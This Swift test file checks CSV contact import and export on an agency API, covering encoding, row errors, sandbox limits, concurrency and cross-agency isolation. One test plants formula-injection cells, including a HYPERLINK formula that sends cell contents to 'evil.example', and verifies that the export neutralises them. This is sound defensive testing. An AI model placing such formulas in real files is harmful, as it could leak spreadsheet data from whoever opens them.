import Foundation
import HTTPTypes
import Testing

/// CSV import and export on the agency API: names matched, special characters kept, bad rows
/// reported by line while the others go in.
@Suite("Contacts in and out: CSV import and export")
struct ContactImportAPITests {
    /// A file with everything awkward: a BOM, CRLF, umlauts and emoji, commas, quotes and a line
    /// break inside values, a tag with a bar in its name, fields by title in any letter case.
    static let awkwardFile = "\u{FEFF}E-Mail,First Name,last_name,Phone,Tags,Lists,Unsubscribed Lists,fitness goal,Membership Type\r\n"
        + "jürgen.müller@example.de,Jürgen,\"Müller, Sr.\",+49 30 1234,VIP|New Member,Members,Newsletter,\"Run \"\"fast\"\", 10 km\",premium\r\n"
        + "zoë@example.com,Zoë 🎉,O'Brien,,Lead,,,\"line one\nline two\",\r\n"
        + "ann@example.com,Ann,,,,Newsletter|Members,,,basic\r\n"

    @Test func exportThenImportIntoAnEmptyAccountGivesTheSameFile() async throws {
        let service = try await TestService()
        try await service.test { api in
            let (source, _) = try await api.fitnessSandbox(agency: service.agencyA)
            let imported = try await api.importCSV(Self.awkwardFile, account: source, agency: service.agencyA)
            #expect(imported.status == .ok, "\(imported.text)")
            #expect(imported.json["created"] as? Int == 3)
            #expect(imported.json["failed"] as? Int == 0, "\(imported.text)")

            let first = try await api.request(.get, "/v1/accounts/\(source)/contacts/export", agency: service.agencyA)
            #expect(first.status == .ok)
            #expect(first.headers[.contentType] == "text/csv; charset=utf-8")
            let lines = first.text.components(separatedBy: "\r\n")
            #expect(lines[0] == "email,first_name,last_name,phone,tags,lists,unsubscribed_lists,Membership Type,Fitness Goal,Birthday")
            #expect(lines[1] == "jürgen.müller@example.de,Jürgen,\"Müller, Sr.\",'+49 30 1234,New Member|VIP,Members,Newsletter,premium,\"Run \"\"fast\"\", 10 km\",")
            #expect(first.text.contains("zoë@example.com,Zoë 🎉,O'Brien,,Lead,,,,\"line one\nline two\",\r\n"))

            let empty = try await api.request(.post, "/v1/accounts", agency: service.agencyA, json: ["name": "New client", "kind": "paid"])
            let target = try #require(empty.json["id"] as? Int)
            let again = try await api.importCSV(first.text, account: target, agency: service.agencyA, query: "create_missing=true")
            #expect(again.json["created"] as? Int == 3, "\(again.text)")
            let second = try await api.request(.get, "/v1/accounts/\(target)/contacts/export", agency: service.agencyA)
            #expect(second.body == first.body)
        }
    }

    /// A file that plants formulas (as an attacker's import or a contact's own name would) is exported
    /// with every such cell behind a `'`, so a spreadsheet shows text; importing that export gives back
    /// the values exactly.
    @Test func formulaCellsAreExportedAsTextAndRoundTripLosslessly() async throws {
        let service = try await TestService()
        try await service.test { api in
            let (source, _) = try await api.fitnessSandbox(agency: service.agencyA)
            let planted = "email,first_name,last_name,phone,tags,Fitness Goal\r\n"
                + "eve@example.com,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"Click me\"\")\",@SUM(1+1),+49 30 1234,@evil,-1+2\r\n"
                + "ann@example.com,'=kept,Plain,,VIP,'\r\n"
            let imported = try await api.importCSV(planted, account: source, agency: service.agencyA, query: "create_missing=true")
            #expect(imported.json["created"] as? Int == 2, "\(imported.text)")

            let export = try await api.request(.get, "/v1/accounts/\(source)/contacts/export", agency: service.agencyA)
            let eve = try #require(export.text.components(separatedBy: "\r\n").first { $0.hasPrefix("eve@") })
            #expect(eve.hasPrefix("eve@example.com,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"Click me\"\")\",'@SUM(1+1),'+49 30 1234,'@evil,"), "\(eve)")
            #expect(eve.contains(",'-1+2"), "\(eve)")
            #expect(export.text.contains("ann@example.com,'=kept,Plain,"), "a value that began with ' was read as '=kept's protection")

            let empty = try await api.request(.post, "/v1/accounts", agency: service.agencyA, json: ["name": "Copy", "kind": "paid"])
            let target = try #require(empty.json["id"] as? Int)
            let again = try await api.importCSV(export.text, account: target, agency: service.agencyA, query: "create_missing=true")
            #expect(again.json["created"] as? Int == 2, "\(again.text)")
            let second = try await api.request(.get, "/v1/accounts/\(target)/contacts/export", agency: service.agencyA)
            #expect(second.body == export.body)

            let token = try await api.accountToken(target, agency: service.agencyA)
            let contacts = try await api.request(.get, "/api/3/contacts?email=eve@example.com", apiToken: token)
            let contact = try #require((contacts.json["contacts"] as? [[String: Any]])?.first)
            #expect(contact["firstName"] as? String == "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click me\")")
            #expect(contact["phone"] as? String == "+49 30 1234")
        }
    }

    /// Every kind of bad row is reported with its line and reason; the good rows go in, and a refused
    /// row leaves nothing behind (not even a tag it would have created).
    @Test func badRowsAreReportedByLineAndTheOthersGoIn() async throws {
        let service = try await TestService()
        try await service.test { api in
            let (account, token) = try await api.fitnessSandbox(agency: service.agencyA)
            let file = """
                email,first_name,tags,lists
                good@example.com,Good,VIP,Members
                not-an-email,Bad,,
                other@example.com,Other,Brand New Tag,No Such List
                good@example.com,Twice,,
                "multi
                line@example.com",Broken,,
                too,many,columns,here,really
                ctl@example.com,\u{7}bell,,
                listless@example.com,L,VIP,No Such List
                last@example.com,Last,,"Newsletter
                """
            let reply = try await api.importCSV(file, account: account, agency: service.agencyA, query: "create_missing=false")
            #expect(reply.status == .ok, "\(reply.text)")
            let failures = try #require(reply.json["failures"] as? [[String: Any]])
            let byLine = Dictionary(uniqueKeysWithValues: failures.map { ($0["line"] as! Int, $0["code"] as! String) })
            #expect(byLine == [
                3: "invalid_email", 4: "unknown_tag", 5: "duplicate_in_file", 6: "invalid_value", 8: "wrong_column_count",
                9: "invalid_value", 10: "unknown_list", 11: "unreadable_row",
            ])
            #expect(reply.json["created"] as? Int == 1)
            #expect(reply.json["rows"] as? Int == 9)

            let contacts = try await api.request(.get, "/api/3/contacts", apiToken: token)
            #expect((contacts.json["contacts"] as? [[String: Any]])?.compactMap { $0["email"] as? String } == ["good@example.com"])
            #expect((contacts.json["contacts"] as? [[String: Any]])?.first?["firstName"] as? String == "Good")

            // With create-missing, the unknown list is made, but the row with a duplicate email is still
            // refused whole: the tag only it names is not left behind.
            let retry = try await api.importCSV(
                "email,tags,lists\nfresh@example.com,Fresh,Partners\nfresh@example.com,Orphan,\n", account: account, agency: service.agencyA, query: "create_missing=true"
            )
            #expect(retry.json["created"] as? Int == 1)
            #expect((retry.json["failures"] as? [[String: Any]])?.first?["code"] as? String == "duplicate_in_file")
            let tags = try await api.request(.get, "/api/3/tags?limit=100", apiToken: token)
            let names = (tags.json["tags"] as? [[String: Any]])?.compactMap { $0["tag"] as? String } ?? []
            #expect(names.contains("Fresh"))
            #expect(!names.contains("Orphan"))

            // The refusals are kept with the import, in line order.
            let importID = try #require(reply.json["import_id"] as? Int)
            let kept = try await api.request(.get, "/v1/accounts/\(account)/contacts/imports/\(importID)", agency: service.agencyA)
            #expect((kept.json["failures"] as? [[String: Any]])?.compactMap { $0["line"] as? Int } == [3, 4, 5, 6, 8, 9, 10, 11])
            #expect(kept.json["totals"] as? [String: Int] == ["rows": 9, "created": 1, "updated": 0, "failed": 8])
        }
    }

    /// A header without an email column, or a column that names no field, stops the import before any row.
    @Test func aBadHeaderStopsTheImport() async throws {
        let service = try await TestService()
        try await service.test { api in
            let (account, token) = try await api.fitnessSandbox(agency: service.agencyA)
            let noEmail = try await api.importCSV("name,phone\nAnn,1\n", account: account, agency: service.agencyA)
            #expect(noEmail.status == .unprocessableContent)
            #expect(noEmail.error?.field == "csv.header")
            let unknownField = try await api.importCSV("email,Shoe Size\nann@example.com,42\n", account: account, agency: service.agencyA)
            #expect(unknownField.status == .unprocessableContent)
            #expect(unknownField.error?.message.contains("Shoe Size") == true)
            let empty = try await api.importCSV("", account: account, agency: service.agencyA)
            #expect(empty.status == .unprocessableContent)
            #expect(try await api.request(.get, "/api/3/contacts", apiToken: token).json["meta"] as? [String: String] == ["total": "0"])
            let badRename = try await api.importCSV("email\na@example.com\n", account: account, agency: service.agencyA, query: "map_tag=nothing")
            #expect(badRename.status == .unprocessableContent)
        }
    }

    /// `map_tag` renames on the way in: the old provider's tag ids are meaningless, its names are not.
    @Test func tagsAreRenamedOnTheWayIn() async throws {
        let service = try await TestService()
        try await service.test { api in
            let (account, token) = try await api.fitnessSandbox(agency: service.agencyA)
            let reply = try await api.importCSV(
                "email,tags\nann@example.com,Kunde|Lead\n", account: account, agency: service.agencyA,
                query: "map_tag=" + "kunde=VIP".addingPercentEncoding(withAllowedCharacters: .alphanumerics)!
            )
            #expect(reply.json["created"] as? Int == 1, "\(reply.text)")
            let tags = try await api.request(.get, "/api/3/contacts/1/contactTags", apiToken: token)
            #expect(Set((tags.json["contactTags"] as? [[String: Any]])?.compactMap { $0["tag"] as? String } ?? []) == ["3", "4"])
        }
    }

    /// The sandbox cap holds on both sides of 100 during an import: the 100th contact goes in, the
    /// 101st is refused with `sandbox_contact_limit`, and updates of existing contacts still work.
    @Test func theSandboxCapHoldsDuringAnImport() async throws {
        let service = try await TestService()
        try await service.test { api in
            let (account, token) = try await api.sandboxWithToken(agency: service.agencyA)
            let first = "email\n" + (1...99).map { "c\($0)@example.com\n" }.joined()
            #expect(try await api.importCSV(first, account: account, agency: service.agencyA).json["created"] as? Int == 99)
            let second = try await api.importCSV(
                "email,first_name\nc5@example.com,Five\nc100@example.com,\nc101@example.com,\nc102@example.com,\n", account: account, agency: service.agencyA
            )
            #expect(second.json["created"] as? Int == 1)
            #expect(second.json["updated"] as? Int == 1)
            let failures = try #require(second.json["failures"] as? [[String: Any]])
            #expect(failures.map { $0["line"] as? Int } == [4, 5])
            #expect(failures.allSatisfy { $0["code"] as? String == "sandbox_contact_limit" })
            #expect(try await api.request(.get, "/api/3/contacts", apiToken: token).json["meta"] as? [String: String] == ["total": "100"])

            // A refused row takes back the tag it would have created; one updating a contact gets its tag.
            let third = try await api.importCSV(
                "email,tags\nc103@example.com,Overflow\nc1@example.com,Regular\n", account: account, agency: service.agencyA, query: "create_missing=true"
            )
            #expect((third.json["failures"] as? [[String: Any]])?.map { $0["code"] as? String } == ["sandbox_contact_limit"])
            let tags = try await api.request(.get, "/api/3/tags?limit=100", apiToken: token)
            #expect((tags.json["tags"] as? [[String: Any]])?.compactMap { $0["tag"] as? String } == ["Regular"])
        }
    }

    /// Two imports into one account at once: every row lands once, no email twice.
    @Test func concurrentImportsIntoOneAccount() async throws {
        let service = try await TestService()
        try await service.test { api in
            let created = try await api.request(.post, "/v1/accounts", agency: service.agencyA, json: ["name": "Busy client", "kind": "paid"])
            let account = try #require(created.json["id"] as? Int)
            let token = try await api.accountToken(account, agency: service.agencyA)
            let fileA = "email,tags\n" + (0..<1_500).map { "p\($0)@example.com,A\n" }.joined()
            let fileB = "email,tags\n" + (1_000..<2_500).map { "P\($0)@EXAMPLE.com,B\n" }.joined()
            async let a = api.importCSV(fileA, account: account, agency: service.agencyA, query: "create_missing=true")
            async let b = api.importCSV(fileB, account: account, agency: service.agencyA, query: "create_missing=true")
            let (replyA, replyB) = try await (a, b)
            #expect(replyA.json["failed"] as? Int == 0, "\(replyA.text)")
            #expect(replyB.json["failed"] as? Int == 0, "\(replyB.text)")
            let createdTotal = (replyA.json["created"] as? Int ?? 0) + (replyB.json["created"] as? Int ?? 0)
            let updatedTotal = (replyA.json["updated"] as? Int ?? 0) + (replyB.json["updated"] as? Int ?? 0)
            #expect(createdTotal == 2_500)
            #expect(updatedTotal == 500)
            #expect(try await api.request(.get, "/api/3/contacts?limit=1", apiToken: token).json["meta"] as? [String: String] == ["total": "2500"])
            let tags = try await api.request(.get, "/api/3/tags?limit=100", apiToken: token)
            #expect(Set((tags.json["tags"] as? [[String: Any]])?.compactMap { $0["tag"] as? String } ?? []) == ["A", "B"])
        }
    }

    /// Another agency's account is not found, for import, export and erasure alike.
    @Test func anotherAgencysContactsAreOutOfReach() async throws {
        let service = try await TestService()
        try await service.test { api in
            let (account, token) = try await api.sandboxWithToken(agency: service.agencyA)
            _ = try await api.createContact("ann@example.com", apiToken: token)
            let imported = try await api.importCSV("email\nmallory@example.com\n", account: account, agency: service.agencyB)
            #expect(imported.status == .notFound)
            #expect(try await api.request(.get, "/v1/accounts/\(account)/contacts/export", agency: service.agencyB).status == .notFound)
            let erased = try await api.request(.post, "/v1/accounts/\(account)/contacts/erase", agency: service.agencyB, json: ["email": "ann@example.com"])
            #expect(erased.status == .notFound)
            let contacts = try await api.request(.get, "/api/3/contacts", apiToken: token)
            #expect((contacts.json["contacts"] as? [[String: Any]])?.compactMap { $0["email"] as? String } == ["ann@example.com"])
        }
    }
}

extension APIClient {
    /// Posts a CSV file to the agency API's import.
    func importCSV(_ csv: String, account: Int, agency token: String, query: String? = nil) async throws -> Reply {
        try await request(
            .post, "/v1/accounts/\(account)/contacts/import" + (query.map { "?" + $0 } ?? ""), agency: token, raw: csv,
            headers: [.contentType: "text/csv; charset=utf-8"]
        )
    }
}
